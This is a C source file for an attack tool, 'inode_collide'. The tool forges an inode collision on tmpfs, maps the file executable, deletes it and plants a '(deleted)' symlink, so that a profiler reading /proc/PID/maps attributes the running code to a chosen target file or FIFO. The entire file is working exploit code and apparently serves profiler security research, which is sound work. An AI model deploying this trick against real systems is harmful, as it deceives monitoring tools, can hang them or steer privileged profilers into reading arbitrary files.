/* The inode-collision trick: map (executable) a file of ours whose inode
 * number equals the target's, delete it, and leave a symlink named as
 * /proc/PID/maps now shows the mapping ("<path> (deleted)") pointing at the
 * target. Then run code from the mapping so the profiler looks at it.
 * Usage: inode_collide DIR CODE_OFFSET SECONDS TARGET [TARGET_INODE]
 *   DIR: where to create files (a tmpfs: its inode numbers are sequential);
 *   CODE_OFFSET: where in the file the code runs (for a binary target, the
 *     offset of a function of the target's, so a profiler that reads the
 *     target instead of the mapping names that function);
 *   TARGET_INODE: the target's inode number; without it, TARGET is created
 *     as a FIFO of ours and its inode number read.
 * Prints "mapped inode N from PATH" once the trap is set. */
#include <fcntl.h>
#include <sys/stat.h>
#include "attack.h"

/* tmpfs hands out inode numbers one by one: the target's is reached after
 * (target - current) files; more than this means it cannot be. */
#define MAX_FILES 100000

int main(int argc, char **argv) {
    if (argc != 5 && argc != 6) die("usage: inode_collide DIR CODE_OFFSET SECONDS TARGET [TARGET_INODE]");
    const char *dir = argv[1];
    size_t code_offset = strtoull(argv[2], NULL, 0);
    double seconds = atof(argv[3]);
    const char *target = argv[4];
    unsigned long long target_inode;
    if (argc == 6) {
        target_inode = strtoull(argv[5], NULL, 0);
    } else {
        struct stat st;
        if (mkfifo(target, 0600) != 0 || stat(target, &st) != 0) die("mkfifo %s", target);
        target_inode = st.st_ino;
    }
    /* After the profiler's first look at the new process, so that the
     * mapping is found by a later one. */
    usleep(300 * 1000);

    char path[4096];
    int fd = -1;
    for (int i = 0; i < MAX_FILES && fd < 0; i++) {
        snprintf(path, sizeof path, "%s/f%d", dir, i);
        int candidate = open(path, O_RDWR | O_CREAT | O_EXCL, 0700);
        struct stat st;
        if (candidate < 0 || fstat(candidate, &st) != 0) die("creating %s", path);
        if (st.st_ino == target_inode) {
            fd = candidate;
            break;
        }
        close(candidate);
        unlink(path);
        if (st.st_ino > target_inode) die("inode %llu already passed (at %llu)", target_inode, (unsigned long long)st.st_ino);
    }
    if (fd < 0) die("inode %llu not reached in %d files", target_inode, MAX_FILES);

    size_t length = round_up(code_offset + sizeof SPIN_STUB, page_size());
    if (ftruncate(fd, (off_t)length) != 0 ||
        pwrite(fd, SPIN_STUB, sizeof SPIN_STUB, (off_t)code_offset) != (ssize_t)sizeof SPIN_STUB)
        die("writing %s", path);
    unsigned char *map = map_exec(fd, length);
    close(fd);
    char link[4200];
    snprintf(link, sizeof link, "%s (deleted)", path);
    if (unlink(path) != 0 || symlink(target, link) != 0) die("replacing %s by a symlink to %s", path, target);
    printf("mapped inode %llu from %s\n", target_inode, path);
    fflush(stdout);

    stub_fn spin = (stub_fn)(map + code_offset);
    double end = now_seconds() + seconds;
    while (now_seconds() < end) spin();
    return 0;
}
